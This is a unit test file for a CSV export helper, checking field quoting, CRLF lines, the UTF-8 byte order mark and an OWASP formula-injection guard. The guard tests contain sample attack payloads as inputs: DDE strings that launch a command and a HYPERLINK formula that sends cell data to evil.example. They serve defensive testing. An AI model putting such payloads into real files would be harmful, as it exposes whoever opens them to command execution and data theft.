import { CSV_BOM, buildCsv, csvDecimal, csvField, csvLine } from './csv';

describe('csv (RFC 4180)', () => {
  it('leaves plain fields as they are', () => {
    expect(csvField('Tigo')).toBe('Tigo');
    expect(csvField(12)).toBe('12');
    expect(csvField('1500.00')).toBe('1500.00');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('quotes fields with a comma, a quote or a line break, doubling inner quotes', () => {
    expect(csvField('Quispe, Carla')).toBe('"Quispe, Carla"');
    expect(csvField('dijo "hola"')).toBe('"dijo ""hola"""');
    expect(csvField('línea 1\nlínea 2')).toBe('"línea 1\nlínea 2"');
    expect(csvField('a\r\nb')).toBe('"a\r\nb"');
    expect(csvField('"')).toBe('""""');
  });

  it('joins a line with commas', () => {
    expect(csvLine(['a', 'b,c', 3])).toBe('a,"b,c",3');
  });

  it('starts with the BOM and the header, ends every line with CRLF', () => {
    const csv = buildCsv(
      ['id', 'nombre'],
      [
        [1, 'Ñusta'],
        [2, 'a "b", c'],
      ],
    );
    expect(csv.startsWith(CSV_BOM)).toBeTrue();
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1)).toBe('id,nombre\r\n1,Ñusta\r\n2,"a ""b"", c"\r\n');
  });

  it('writes only the header when there are no rows', () => {
    expect(buildCsv(['id'], [])).toBe(`${CSV_BOM}id\r\n`);
  });

  it('encodes as UTF-8 with the EF BB BF byte order mark', async () => {
    const bytes = new Uint8Array(await new Blob([buildCsv(['ñ'], [])]).arrayBuffer());
    expect(Array.from(bytes.slice(0, 5))).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xb1]);
  });

  describe('CSV injection guard (OWASP)', () => {
    it('prefixes a text starting with =, +, -, @, a tab or a CR with a quote', () => {
      expect(csvField('=1+1')).toBe("'=1+1");
      expect(csvField('+1+1')).toBe("'+1+1");
      expect(csvField('-1+1')).toBe("'-1+1");
      expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)");
      expect(csvField('\t=1+1')).toBe("'\t=1+1");
      expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
    });

    it('prefixes a text starting with a line feed or a NUL too (ASVS 1.2.10)', () => {
      expect(csvField('\n=1+1')).toBe('"\'\n=1+1"');
      expect(csvField('\0=1+1')).toBe("'\0=1+1");
    });

    it("neutralises OWASP's example payloads, quoting them too when they hold a quote or comma", () => {
      expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
      expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Error")')).toBe(
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Error"")"',
      );
      expect(csvField("@SUM(1+9)*cmd|' /C calc'!A0")).toBe("'@SUM(1+9)*cmd|' /C calc'!A0");
      expect(csvField("=10+20+cmd|' /C calc'!A0")).toBe("'=10+20+cmd|' /C calc'!A0");
      expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
      expect(csvField("+2+3+cmd|' /C calc'!A0")).toBe("'+2+3+cmd|' /C calc'!A0");
    });

    it('leaves harmless text alone: a formula sign inside is not at the start', () => {
      expect(csvField('76543210')).toBe('76543210');
      expect(csvField('7654=3210')).toBe('7654=3210');
      expect(csvField('Quispe-Mamani')).toBe('Quispe-Mamani');
    });

    it('writes amounts as plain numbers, negative ones included', () => {
      expect(csvField(csvDecimal('1500.00'))).toBe('1500.00');
      expect(csvField(csvDecimal('-5.00'))).toBe('-5.00');
      expect(csvField(-3)).toBe('-3');
      expect(csvField(csvDecimal('-1+1'))).toBe("'-1+1");
    });
  });
});
